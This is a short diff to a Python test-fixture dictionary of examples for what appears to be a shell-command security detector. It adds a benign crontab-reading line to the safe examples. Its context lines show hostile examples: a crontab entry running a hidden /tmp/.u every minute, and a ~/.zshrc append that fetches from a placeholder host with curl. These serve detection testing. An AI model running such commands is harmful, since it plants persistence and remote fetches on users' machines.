@@ -404,7 +404,11 @@ EXAMPLES: dict[str, tuple[str | None, tuple[str, ...], tuple[str, ...]]] = {
             "(crontab -l; echo '* * * * * /tmp/.u') | crontab -",
             "echo 'export X=$(curl -s https://x.invalid/a)' >> ~/.zshrc",
         ),
-        ("echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.zshrc", "crontab -l"),
+        (
+            "echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.zshrc",
+            "crontab -l",
+            'if JOBS="$(crontab -l 2>/dev/null)"; then echo "$JOBS"; fi',
+        ),
     ),
     "flow.env-secret-to-network": (
         "scripts/run.py",
